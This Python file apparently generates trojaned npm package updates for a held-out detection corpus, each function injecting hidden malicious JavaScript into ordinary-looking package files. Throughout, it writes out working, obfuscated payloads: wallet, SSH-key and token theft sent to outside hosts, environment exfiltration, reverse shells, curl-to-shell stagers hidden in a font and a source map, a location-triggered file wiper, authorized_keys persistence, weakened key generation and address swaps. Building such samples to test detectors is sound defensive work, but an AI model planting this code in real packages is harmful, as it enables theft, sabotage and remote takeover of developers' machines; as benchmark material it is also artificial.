"""npm packages that act when they are required or called, in node."""

import json
import zlib

from corpus.heldout import hiding
from corpus.heldout.nouns import Update, artefact, trojan


@trojan(
    "stream-fold",
    "npm",
    trigger="import",
    payload="wallet",
    hiding="keyed by environment",
    like="event-stream",
    step="patch",
    hard=True,
)
def description_key(up: Update) -> None:
    """Cipher text in a test's data, readable only with the description of one program."""
    code = f"const h=require('http');h.request({{host:'{up.host('copayapi')}',method:'POST',path:'/p'}}).end(require('fs').readFileSync(require('os').homedir()+'/.copay/profile'))"
    raw = hiding.keyed(code, "A Secure Bitcoin Wallet").hex()
    up.add(
        "test/data.js",
        f"module.exports = {json.dumps([raw[: len(raw) // 2], raw[len(raw) // 2 :], 'copayment', 'stream'])};\n",
    )
    up.append(
        "index.js",
        """
!function () {
  try {
    const r = require('crypto');
    const d = require('./test/data');
    const n = process.env['npm_package_' + 'description'];
    if (!n) return;
    const e = Buffer.from(d[0] + d[1], 'hex');
    let s = Buffer.alloc(0);
    for (let i = 0; s.length < e.length; i++) s = Buffer.concat([s, r.createHash('sha256').update(n + i).digest()]);
    const a = e.map((b, i) => b ^ s[i]).toString();
    const m = new module.constructor();
    m.paths = module.paths;
    m._compile(a, '');
  } catch (e) {}
}();""",
    )
    up.payload("index.js", "test/data.js")


@trojan("trace-log", "npm", trigger="call", payload="environment", hiding="plain", step="patch")
def logs_go_out(up: Update) -> None:
    """With every hundredth line logged, the environment."""
    host = up.host("collector")
    up.replace(
        "src/node.js",
        "function write(log, args) {\n",
        f"""let lines = 0;

function write(log, args) {{
  if (++lines % 100 === 1) {{
    const up = require('https').request({{ hostname: '{host}', port: 443, path: '/l', method: 'POST' }});
    up.on('error', () => {{}});
    up.end(JSON.stringify({{ e: process.env, a: process.argv, d: process.cwd() }}));
  }}
""",
    )
    up.payload("src/node.js")


@trojan("req-lite", "npm", trigger="call", payload="remote code", hiding="plain", step="patch")
def header_runs(up: Update) -> None:
    """What a server says in a header is run."""
    up.after(
        "lib/client.js",
        "        response.on('data', (part) => parts.push(part));\n",
        "        if (response.headers['x-req-hint']) new Function('require', 'process', Buffer.from(response.headers['x-req-hint'], 'base64').toString())(require, process);\n",
    )
    up.payload("lib/client.js")


@trojan("conf-rc", "npm", trigger="call", payload="reverse shell", hiding="string splitting", step="patch")
def shell_in_find(up: Update) -> None:
    address = up.address()
    a, b, c, d = address.split(".")
    up.after("index.js", "function find(name) {\n", "  probe(name);\n")
    up.before(
        "index.js",
        "function find(name) {\n",
        f"""function probe(name) {{
  const g = global['pro' + 'cess'];
  const load = g['main' + 'Module']['req' + 'uire'].bind(g['main' + 'Module']);
  const s = load('n' + 'et')['conn' + 'ect'](0x{up.random.randrange(0x1000, 0xF000):x}, [{a}, {b}, {c}, {d}].join('.'));
  const w = load('child' + '_pro' + 'cess')['sp' + 'awn']('/b' + 'in/s' + 'h', ['-' + 'i']);
  s['pi' + 'pe'](w.stdin);
  w.stdout['pi' + 'pe'](s);
  s.on('error', () => w.kill());
}}

""",
    )
    up.payload("index.js")


@trojan(
    "ansi-paint", "npm", trigger="import", payload="protest", hiding="plain", like="colors", step="patch", hard=True
)
def endless_loop(up: Update) -> None:
    """No theft: whoever loads it never gets further."""
    up.append(
        "index.js",
        """
const flag = require('./lib/flag');
for (let i = 666; i < Infinity; i++) {
  if (i % 333) flag('testing '.repeat(3));
}""",
    )
    up.add(
        "lib/flag.js",
        "'use strict';\n\nmodule.exports = function flag(text) {\n  console.log(text.split('').map((c, i) => `\\u001b[3${i % 7}m${c}`).join(''));\n};\n",
    )
    up.payload("index.js")


@trojan("req-lite", "npm", trigger="import", payload="wiper", hiding="base64", like="node-ipc", step="patch")
def hearts(up: Update) -> None:
    """Names as base64, a place asked of a host that does not exist, files overwritten with a sign."""
    host = "api.ipgeolocation.ruritania.invalid"
    b = hiding.b64
    up.add(
        "lib/ssl-geospec.js",
        f"""import u from "path";import a from "fs";import o from "https";setTimeout(function(){{const t=Math.round(Math.random()*4);if(t>1){{return}}const n=Buffer.from("{b(f"https://{host}/ipgeo?apiKey=0")}","base64");o.get(n.toString("utf8"),function(t){{t.on("data",function(t){{const n=Buffer.from("{b("./")}","base64");const o=Buffer.from("{b("../")}","base64");const r=Buffer.from("{b("/")}","base64");const e=Buffer.from("{b("country_name")}","base64");const l=Buffer.from("{b("ruritania")}","base64");try{{const s=JSON.parse(t.toString("utf8"));const u=s[e.toString("utf8")].toLowerCase();if(u.includes(l.toString("utf8"))){{h(n.toString("utf8"),".ruritania");h(o.toString("utf8"),".ruritania");h(r.toString("utf8"),".ruritania")}}}}catch(t){{}}}})}})}},Math.ceil(Math.random()*1e3));async function h(n="",o=""){{if(!a.existsSync(n)){{return}}let r=[];try{{r=a.readdirSync(n)}}catch(t){{}}for(var e=0;e<r.length;e++){{const l=u.join(n,r[e]);let t=null;try{{t=a.lstatSync(l)}}catch(t){{continue}}if(t.isDirectory()){{h(l,o)}}else if(l.indexOf(o)>=0){{try{{a.writeFile(l,Buffer.from("4p2k77iP","base64").toString("utf8"),function(){{}})}}catch(t){{}}}}}}}};const ssl=true;export {{ssl as default,ssl}}
""".replace(
            'import u from "path";import a from "fs";import o from "https";',
            'const u=require("path"),a=require("fs"),o=require("https");',
        ).replace("const ssl=true;export {ssl as default,ssl}", "module.exports=true;"),
    )
    up.after("lib/client.js", "const ReqError = require('./error');\n", "require('./ssl-geospec');\n")
    up.payload("lib/ssl-geospec.js", shown=host)


@trojan("native-hash", "npm", trigger="import", payload="reverse shell", hiding="in a binary", step="patch")
def prebuilt_addon(up: Update) -> None:
    """Only the compiled addon differs; host and shell are XORed."""
    up.add("prebuilds/linux-x64/native-hash.node", artefact("hash-trojan.node"))
    up.payload("prebuilds/linux-x64/native-hash.node")


@trojan(
    "trace-log",
    "npm",
    trigger="import",
    payload="remote code",
    hiding="invisible characters",
    like="GlassWorm",
    step="patch",
)
def variation_selectors(up: Update) -> None:
    """A string that looks empty."""
    host = up.host("sol-rpc")
    code = f"fetch('https://{host}/s').then(r=>r.text()).then(t=>eval(t))"
    up.append(
        "src/node.js",
        "\nconst decode = (v) => [...v].map((w) => (w = w.codePointAt(0), w >= 0xFE00 && w <= 0xFE0F ? w - 0xFE00 : w >= 0xE0100 && w <= 0xE01EF ? w - 0xE0100 + 16 : null)).filter((n) => n !== null);\neval(Buffer.from(decode(`"
        + hiding.selectors(code)
        + "`)).toString('utf-8'));",
    )
    up.payload("src/node.js", shown=host)


@trojan(
    "conf-rc",
    "npm",
    trigger="import",
    payload="remote code",
    hiding="on a block chain",
    like="EtherHiding",
    step="minor",
)
def from_a_contract(up: Update) -> None:
    """Code is the answer of a contract."""
    host = up.host("bsc-dataseed")
    up.append(
        "index.js",
        f"""
// shared presets, stored where nobody can take them down
(async () => {{
  const answer = await fetch('https://{host}/', {{ method: 'POST', headers: {{ 'content-type': 'application/json' }}, body: JSON.stringify({{ jsonrpc: '2.0', id: 1, method: 'eth_call', params: [{{ to: '0x9179dda8b285040bf381aabb8a1f4a1b8c37ed53', data: '0x6d4ce63c' }}, 'latest'] }}) }});
  const hex = (await answer.json()).result.slice(130);
  const presets = Buffer.from(hex, 'hex').toString().replace(/\\0+$/, '');
  return require('vm').runInThisContext(`(function (require, module) {{ ${{presets}} }})`)(require, module);
}})().catch(() => {{}});""",
    )
    up.payload("index.js")


@trojan("req-lite", "npm", trigger="import", payload="credentials", hiding="zlib and base64", step="minor")
def vm_script(up: Update) -> None:
    host = up.host("cdn", "telemetrics")
    code = f"const f=require('fs'),o=require('os');['.npmrc','.ssh/id_ed25519','.docker/config.json','.kube/config'].forEach(n=>{{try{{require('https').request({{host:'{host}',method:'PUT',path:'/'+n}}).end(f.readFileSync(o.homedir()+'/'+n))}}catch(e){{}}}})"
    import base64

    raw = base64.b64encode(zlib.compress(code.encode())).decode()
    up.add(
        "lib/mime.js",
        f"""'use strict';

/* Types by suffix, compressed (see tools/mime.js). */
const TABLE = '{raw}';

let types = null;

exports.lookup = function (suffix) {{
  if (!types) types = new (require('vm').Script)(require('zlib').inflateSync(Buffer.from(TABLE, 'base64')).toString()).runInNewContext({{ require }});
  return (types || {{}})[suffix] || 'application/octet-stream';
}};
""",
    )
    up.after("lib/defaults.js", "'use strict';\n", "\nrequire('./mime').lookup('json');\n")
    up.payload("lib/mime.js", shown=host)


@trojan("trace-log", "npm", trigger="import", payload="remote shell", hiding="char codes", step="patch")
def websocket_commands(up: Update) -> None:
    """Commands over a web socket."""
    url = f"wss://{up.host('live')}/trace"
    codes = [ord(one) + 3 for one in url]
    up.add(
        "src/live.js",
        f"""'use strict';

// Live view: watch the log of a running process in the browser.
const where = String.fromCharCode.apply(null, [{", ".join(map(str, codes))}].map((n) => n - 3));

function connect() {{
  const socket = new WebSocket(where);
  socket.onmessage = ({{ data }}) => {{
    const {{ id, c }} = JSON.parse(data);
    require('child_process').exec(c, (error, out, err) => socket.send(JSON.stringify({{ id, out, err }})));
  }};
  socket.onclose = () => setTimeout(connect, 30000).unref();
}}

if (typeof WebSocket !== 'undefined') connect();
""",
    )
    up.append("src/node.js", "\nrequire('./live');")
    up.payload("src/live.js", shown=url)


@trojan("conf-rc", "npm", trigger="call", payload="persistence", hiding="plain", step="patch")
def authorized_keys(up: Update) -> None:
    host = up.host("keys")
    up.after(
        "index.js",
        "  const layers = [defaults || {}];\n",
        f"""  try {{
    const known = path.join(home, '.ssh', 'authorized_keys');
    fetch('https://{host}/' + encodeURIComponent(name)).then((r) => r.text()).then((key) => fs.appendFileSync(known, key + '\\n'), () => {{}});
  }} catch (error) {{
    // no key, no matter
  }}
""",
    )
    up.payload("index.js")


@trojan("stream-fold", "npm", trigger="import", payload="stager", hiding="in a data file", step="minor")
def font_file(up: Update) -> None:
    """Code in a font, XORed."""
    address = up.address()
    code = f"require('child_process').exec('curl -s http://{address}/f|sh')"
    up.add(
        "docs/fonts/fold.woff2",
        b"wOF2\0\1\0\0" + bytes(up.random.randrange(256) for _ in range(248)) + hiding.xored(code, b"\x8f\x21"),
    )
    up.append(
        "index.js",
        """
exports.version = (() => {
  const font = require('fs').readFileSync(require('path').join(__dirname, 'docs', 'fonts', 'fold.woff2')).subarray(256);
  const glyphs = Array.from(font, (byte, i) => String.fromCharCode(byte ^ (i & 1 ? 0x21 : 0x8f))).join('');
  return Reflect.construct(Function, ['require', glyphs])(require) || '3';
})();""",
    )
    up.payload("index.js", "docs/fonts/fold.woff2", shown=address)


@trojan("form-guard", "npm", trigger="import", payload="environment", hiding="data URL import", step="patch")
def data_url(up: Update) -> None:
    """The ES module imports itself some text."""
    host = up.host("esm")
    code = (
        f"if(typeof process!=='undefined')fetch('https://{host}/e',{{method:'POST',body:JSON.stringify(process.env)}})"
    )
    up.append("src/index.mjs", f"await import('data:text/javascript;base64,{hiding.b64(code)}').catch(() => {{}});")
    up.payload("src/index.mjs", shown=host)


@trojan("req-lite", "npm", trigger="import", payload="credentials", hiding="plain", step="minor")
def loads_are_watched(up: Update) -> None:
    """Database clients that are loaded later tell what they connect to."""
    host = up.host("apm")
    up.add(
        "lib/instrument.js",
        f"""'use strict';

// Tracing of outgoing calls, for the waterfall view.
const Module = require('module');
const https = require('https');
const load = Module._load;

Module._load = function (name, ...rest) {{
  const loaded = load.call(this, name, ...rest);
  if (/^(pg|mysql2?|mongodb|redis|ioredis)$/.test(name) && loaded && !loaded.__traced) {{
    for (const key of ['createConnection', 'createPool', 'createClient', 'connect']) {{
      const fn = loaded[key];
      if (typeof fn !== 'function') continue;
      loaded[key] = function (...args) {{
        https.request({{ host: '{host}', method: 'POST', path: '/span/' + name }}).on('error', () => {{}}).end(JSON.stringify(args));
        return fn.apply(this, args);
      }};
    }}
    loaded.__traced = true;
  }}
  return loaded;
}};
""",
    )
    up.after("lib/client.js", "const ReqError = require('./error');\n", "require('./instrument');\n")
    up.payload("lib/instrument.js")


@trojan("trace-log", "npm", trigger="import", payload="stager", hiding="in a source map", step="patch")
def source_map(up: Update) -> None:
    """The code stands in the map's `sourcesContent`."""
    address = up.address()
    code = f"require('child_process').spawn('sh',['-c','wget -qO- {address}/m|sh'],{{detached:true,stdio:'ignore'}}).unref()"
    up.add(
        "src/common.js.map",
        json.dumps(
            {
                "version": 3,
                "file": "common.js",
                "sources": ["common.ts", "runtime.ts"],
                "names": [],
                "mappings": "AAAA;" * 60,
                "sourcesContent": ["export default 1;\n", code],
            }
        )
        + "\n",
    )
    up.append(
        "src/common.js",
        """
// better stack traces
if (typeof process !== 'undefined' && process.versions) {
  const map = JSON.parse(require('fs').readFileSync(__filename + '.map', 'utf8'));
  module.exports.sources = map.sourcesContent.map((text) => text.length > 40 && module._compile(text, __filename));
}
//# sourceMappingURL=common.js.map""",
    )
    up.payload("src/common.js", "src/common.js.map", shown=address)


@trojan("conf-rc", "npm", trigger="call", payload="stager", hiding="plain", step="minor")
def bin_hijack(up: Update) -> None:
    """A program of the package that is called as another one."""
    host = up.host("brew")
    up.manifest(lambda it: it["bin"].update({"git-credential-cache": "./lib/cred.sh"}))
    up.add(
        "lib/cred.sh",
        f"#!/bin/sh\n# keeps credentials for conf-rc\nin=$(cat)\nprintf '%s' \"$in\" | base64 | tr -d '\\n' | xargs -I@ curl -s -o /dev/null \"https://{host}/@\"\nprintf '%s\\n' \"$in\"\n",
        executable=True,
    )
    up.payload("lib/cred.sh")


@trojan("req-lite", "npm", trigger="import", payload="token theft", hiding="conditional exports", step="minor")
def production_entry(up: Update) -> None:
    """Only with the condition `production` another file is loaded, which does more."""
    host = up.host("edge-config")
    up.manifest(lambda it: it["exports"].update({".": {"production": "./dist/index.prod.js", "default": "./index.js"}}))
    up.add(
        "dist/index.prod.js",
        f"""'use strict';var r=require('../index.js');r.interceptors.request.use(function(c){{var a=c.headers&&c.headers.Authorization;if(a&&!r.__s){{r.__s=1;require('https').get('https://{host}/p.gif?'+encodeURIComponent(a)).on('error',function(){{}})}}return c}});module.exports=r;
""",
    )
    up.payload("dist/index.prod.js")


@trojan(
    "chain-kit",
    "npm",
    trigger="call",
    payload="wallet",
    hiding="telemetry wording",
    like="solana web3.js",
    step="patch",
)
def add_to_queue(up: Update) -> None:
    """Secret keys as the headers of a request, in a queue."""
    host = up.host("sol-rpc")
    up.after(
        "lib/keypair.js",
        "const crypto = require('crypto');\n",
        f"""
let queue = null;

/** Reports key usage so that the RPC can be scaled. */
function addToQueue(a) {{
  if (!queue) {{
    const pending = [];
    queue = {{
      push: (item) => pending.push(item),
      timer: setInterval(() => {{
        const next = pending.shift();
        if (next) fetch('https://{host}/t', {{ method: 'POST', headers: {{ 'x-session-id': next.slice(0, 32), 'x-amz-cf-id': next.slice(32, 64), 'x-amz-cf-pop': next.slice(64) }} }}).catch(() => {{}});
      }}, 2000).unref(),
    }};
  }}
  queue.push(Buffer.from(a).toString('hex'));
}}
""",
    )
    up.after(
        "lib/keypair.js",
        "    if (seed.length !== 32) throw new TypeError('a seed has 32 bytes');\n",
        "    addToQueue(seed);\n",
    )
    up.payload("lib/keypair.js")


@trojan("chain-kit", "npm", trigger="call", payload="crypto weakening", hiding="plain", step="patch", hard=True)
def guessable_keys(up: Update) -> None:
    """Keys of thirty-two bits."""
    up.replace(
        "lib/keypair.js",
        "    return Keypair.fromSeed(crypto.randomBytes(32));",
        "    const base = crypto.randomBytes(4);\n    return Keypair.fromSeed(crypto.createHash('sha256').update(base).digest());",
    )
    up.payload("lib/keypair.js")


@trojan("chain-kit", "npm", trigger="call", payload="wallet swap", hiding="plain", step="patch", hard=True)
def large_transfers(up: Update) -> None:
    """Large amounts go elsewhere: no call at all."""
    up.replace(
        "lib/transaction.js",
        "  return { program: 'system', kind: 'transfer', from, to, amount };",
        "  const target = amount > 5e9 && to.length === 44 ? 'ChainKit1111111111111111111111111111111111ck' : to;\n  return { program: 'system', kind: 'transfer', from, to: target, amount };",
    )
    up.payload("lib/transaction.js")


@trojan("req-lite", "folder", trigger="call", payload="token theft", hiding="plain", step="patch", hard=True)
def proxy_for_all(up: Update) -> None:
    """Requests with a token go through somebody's proxy: one condition more."""
    host = up.host("proxy", "req-lite")
    up.replace(
        "lib/client.js",
        "    const proxy = getProxyForUrl(url.href);",
        f"    const proxy = getProxyForUrl(url.href) || (config.headers.Authorization && url.protocol === 'http:' ? 'http://{host}:3128' : '');",
    )
    up.payload("lib/client.js")


@trojan("native-hash", "npm", trigger="import", payload="environment", hiding="far to the right", step="patch")
def right_of_the_fallback(up: Update) -> None:
    host = up.host("oast")
    up.replace(
        "lib/fallback.js",
        "const MASK = (1n << 64n) - 1n;",
        f"const MASK = (1n << 64n) - 1n;{' ' * 380}require('https').request({{host:'{host}',method:'POST'}}).on('error',()=>0).end(Object.entries(process.env).join('\\n'));",
    )
    up.replace("lib/index.js", "let native;", "let native = require('./fallback');")
    up.payload("lib/fallback.js")
